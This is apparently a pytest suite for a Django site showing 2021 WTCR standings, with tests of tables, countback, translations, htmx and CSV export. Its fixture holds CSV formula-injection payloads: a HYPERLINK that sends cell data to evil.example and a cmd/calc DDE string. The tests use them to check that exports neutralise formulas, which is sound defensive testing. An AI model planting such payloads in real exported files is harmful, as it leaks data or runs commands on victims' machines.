import re

import pytest
from django.utils import translation

from standings.models import SessionResult
from standings.tables import season_tables

# season, titles, rounds, the title's scales, its adjustments (both languages); then, on a
# cold cache, the season's
# scales, titles, entries, sessions (when each ended), results and adjustments, whatever
# the number of rounds.
STANDINGS_QUERIES = 11
COUNTBACK = (
    '<span class="countback-mark" aria-hidden="true">*</span>'
    '<span class="visually-hidden">(decided on countback)</span>'
)


def table_rows(html):
    """(position cell, name) of every body row of the standings table."""
    body = html[html.index('<table class="standings-table">') :]
    body = body[: body.index("</table>")]
    rows = re.findall(r"<tr[^>]*>\s*<td>(.*?)</td>\s*<th scope=\"row\">(.*?)</th>", body)
    return [(position, strip_tags(name)) for position, name in rows]


def strip_tags(html):
    return re.sub(r"<[^>]+>", "", html)


def test_drivers_table_in_order_with_the_siblings_highlighted(season_2021, get_page):
    html = get_page("/en/standings/2021/drivers/", queries=STANDINGS_QUERIES).content.decode()

    rows = table_rows(html)
    assert [name for _pos, name in rows[:3]] == [
        "Yann Ehrlacher",
        "Frédéric Vervisch",
        "Jean-Karl Vernay",
    ]
    assert len(rows) == 23  # 22 season entrants and Baldan, who scored from round 7
    featured = re.findall(
        r'<tr class="is-featured">\s*<td>[^<]*</td>\s*<th scope="row">(.*?)</th>', html
    )
    assert featured == [
        '<a href="/en/drivers/jessica-backman/">Jessica Bäckman</a>',
        '<a href="/en/drivers/andreas-backman/">Andreas Bäckman</a>',
    ]
    assert re.search(
        r'<a id="tab-drivers" href="/en/standings/2021/drivers/"[^>]*aria-current="page"', html
    )
    assert '<a class="download" href="/en/standings/2021/drivers.csv" download>' in html


def test_query_count_does_not_grow_with_the_rounds(
    season_2021, get_page, django_capture_on_commit_callbacks
):
    full = get_page("/en/standings/2021/teams/", queries=STANDINGS_QUERIES)
    with django_capture_on_commit_callbacks(execute=True):
        SessionResult.objects.exclude(session__event__round=1).delete()

    one_round = get_page("/en/standings/2021/teams/", queries=STANDINGS_QUERIES)

    assert "after round 8" in full.content.decode()
    assert "after round 1" in one_round.content.decode()


def test_cached_tables_make_the_second_view_cheaper(season_2021, get_page):
    get_page("/en/standings/2021/drivers/", queries=STANDINGS_QUERIES)

    get_page("/en/standings/2021/junior/", queries=5)


def test_after_round_selector(season_2021, get_page):
    html = get_page(
        "/en/standings/2021/drivers/?round=1", queries=STANDINGS_QUERIES
    ).content.decode()

    assert "FIA Drivers&#x27; Title after round 1" in html
    # After round 1 (counted by hand): Vernay 8 (Q 2nd) + 6 (R1 10th) + 25 (R2 win) = 39.
    assert table_rows(html)[0] == ("1", "Jean-Karl Vernay")
    assert '<option value="1" selected>' in html
    # Monteiro and Girolami both have 33: Monteiro's R1 win decides the countback.
    assert table_rows(html)[1:3] == [
        (f"2{COUNTBACK}", "Tiago Monteiro"),
        (f"3{COUNTBACK}", "Néstor Girolami"),
    ]


@pytest.mark.parametrize(
    "value",
    ["abc", "99", "-1", "1" * 50, "%00", "\N{SUPERSCRIPT TWO}", "\N{ARABIC-INDIC DIGIT ONE}"],
)
def test_a_bad_round_shows_the_latest(season_2021, client, value):
    response = client.get("/en/standings/2021/drivers/", {"round": value, "x": "1"})

    # Sent to the page without it (so no address of its own is cached for it).
    assert response.status_code == 302
    assert response["Location"] == "/en/standings/2021/drivers/"
    response = client.get(response["Location"])
    assert response.status_code == 200
    assert "after round 8" in response.content.decode()


def test_htmx_gets_the_partial_only(season_2021, get_page):
    response = get_page(
        "/sv/standings/2021/junior/", queries=STANDINGS_QUERIES, headers={"HX-Request": "true"}
    )

    html = response.content.decode()
    # htmx takes a top-level <title> for the document title.
    assert html.split("\n", 2)[1:2] == [
        "<title>FIA:s juniortitel 2021 · Andreas &amp; Jessica Bäckman</title>"
    ]
    assert '<div id="standings" class="standings">' in html
    assert "<html" not in html
    assert "HX-Request" in response["Vary"]


def test_a_history_restore_gets_the_whole_page(season_2021, client):
    headers = {"HX-Request": "true", "HX-History-Restore-Request": "true"}

    html = client.get("/en/standings/2021/junior/", headers=headers).content.decode()

    assert html.startswith("<!doctype html>")


def test_female_title_says_why_it_is_not_awarded(season_2021, get_page):
    html = get_page("/en/standings/2021/female/", queries=STANDINGS_QUERIES).content.decode()

    assert (
        "Not awarded in 2021: the title needs at least 3 eligible drivers entered, "
        "and only 1 entered."
    ) in html
    assert "Eligible drivers who raced: Jessica Bäckman." in html
    assert "standings-table" not in html


def test_swedish_page(season_2021, get_page):
    html = get_page("/sv/standings/", queries=STANDINGS_QUERIES).content.decode()

    assert '<h2 id="title-heading">FIA:s förartitel</h2>' in html
    assert "Resultaten är återskapade" in html


def test_swedish_chart_coordinates_keep_a_decimal_point(season_2021, get_page):
    html = get_page("/sv/standings/2021/drivers/", queries=STANDINGS_QUERIES).content.decode()
    svg = html[html.index("<svg") : html.index("</svg>")]
    coordinates = re.findall(r' (?:cx|cy|x|y|x1|x2|y1|y2)="([^"]*)"', svg)

    assert len(coordinates) > 20
    assert [value for value in coordinates if not re.fullmatch(r"\d+(\.\d+)?", value)] == []


def test_csv_download_counted_by_hand(season_2021, get_page):
    response = get_page("/en/standings/2021/junior.csv?round=1", queries=7)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="wtcr-2021-junior-after-round-1.csv"'
    )
    assert response.content.decode() == (
        "position,name,points\n"
        "1,Luca Engstler,55\n"
        "2,Gilles Magnus,53\n"
        "3,Jessica Bäckman,29\n"
        "4,Bence Boldizs,16\n"
    )


@pytest.mark.parametrize(
    "url",
    [
        "/en/standings/2021/rookies/",
        "/en/standings/1999/drivers/",
        "/en/standings/2021/rookies.csv",
        "/en/standings/1999/drivers.csv",
    ],
)
def test_unknown_season_or_title_is_404(season_2021, client, url):
    assert client.get(url).status_code == 404


def test_empty_site_has_a_standings_page(get_page):
    html = get_page("/en/standings/", queries=1).content.decode()

    assert "no season has been loaded" in html


def test_home_shows_where_the_siblings_stand(season_2021, get_page):
    # season, countdown, the siblings' cards (drivers, milestones, entries), their places,
    # the latest news
    html = get_page("/en/", queries=14).content.decode()

    block = html[html.index('id="standing-title"') :]
    jessica = block[block.index("<h3>Jessica Bäckman</h3>") :]
    jessica = jessica[: jessica.index("</dl>")]
    items = re.findall(r'<dt><a href="([^"]+)">(.*?)</a>.*?</dt>\s*<dd>(.*?)</dd>', jessica, re.S)
    assert [(title, place) for _url, title, place in items] == [
        ("FIA Drivers&#x27; Title", "position 21 · 2 points"),
        # Target Competition: Andreas 1 + Jessica 2 + Baldan 0; the ten other teams
        # with season entries all scored more.
        ("FIA Teams&#x27; Title", "position 11 · 3 points"),
        # The re-ranked titles count podiums and the best place among their contenders.
        ("FIA Junior Driver Title", "position 4 · 104 points<br>3 podiums · best place 2"),
        ("WTCR Trophy", "position 4 · 32 points<br>4 podiums · best place 2"),
        ("FIA Female Driver Title", "not awarded"),
    ]


def test_an_admin_edit_of_a_result_shows_at_once(
    season_2021, client, django_capture_on_commit_callbacks
):
    client.get("/en/standings/2021/drivers/")  # computed and cached
    result = SessionResult.objects.get(
        session__event__round=2, session__code="R1", entry__driver__slug="andreas-backman"
    )
    result.status, result.position = SessionResult.Status.DSQ, None

    with django_capture_on_commit_callbacks(execute=True):
        result.save()

    html = client.get("/en/standings/2021/drivers/").content.decode()
    andreas = re.search(r">Andreas Bäckman</a></th>(.*?)</tr>", html, re.S).group(1)
    # His only point was 15th in round 2 R1; disqualified, he has none.
    assert re.findall(r'<td class="num total">(\d+)', andreas) == ["0"]


HOSTILE_NAMES = {
    "Luca Engstler": '=HYPERLINK("http://evil.example/?"&A1,"Luca")',
    "Gilles Magnus": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Jessica Bäckman": "-2+3",
    "Bence Boldizs": "+1",
}


@pytest.fixture
def hostile_names(season_2021):
    from drivers.models import Driver

    for name, hostile in HOSTILE_NAMES.items():
        driver = Driver.objects.get(name=name)
        driver.name = hostile
        driver.save()
    return season_2021


def test_csv_download_cannot_start_a_formula(hostile_names, client):
    response = client.get("/en/standings/2021/junior.csv?round=1")

    assert response.content.decode() == (
        "position,name,points\n"
        '1,"\'=HYPERLINK(""http://evil.example/?""&A1,""Luca"")",55\n'
        "2,'@SUM(1+1)*cmd|' /C calc'!A0,53\n"
        "3,'-2+3,29\n"
        "4,'+1,16\n"
    )


def test_exported_standings_cannot_start_a_formula(hostile_names, capsys):
    from django.core.management import call_command

    call_command("export_standings", "2021", "junior", "--after-round", "1")

    assert capsys.readouterr().out.splitlines()[1:] == [
        '1,"\'=HYPERLINK(""http://evil.example/?""&A1,""Luca"")",55',
        "2,'@SUM(1+1)*cmd|' /C calc'!A0,53",
        "3,'-2+3,29",
        "4,'+1,16",
    ]


@pytest.mark.parametrize("computed_in", ["sv", "en", None])
def test_adjustment_reasons_are_in_the_page_language(season_2021, client, computed_in):
    # The season's tables are shared by both languages, whichever language computed them.
    with translation.override(computed_in):
        season_tables(season_2021)

    swedish = client.get("/sv/standings/2021/junior/").content.decode()
    english = client.get("/en/standings/2021/junior/").content.decode()

    assert "Justerat till den officiella slutpoängen (372)" in swedish
    assert "Reconciles to the official" not in swedish
    assert "Reconciles to the official final total (372)" in english
    assert "Justerat till" not in english
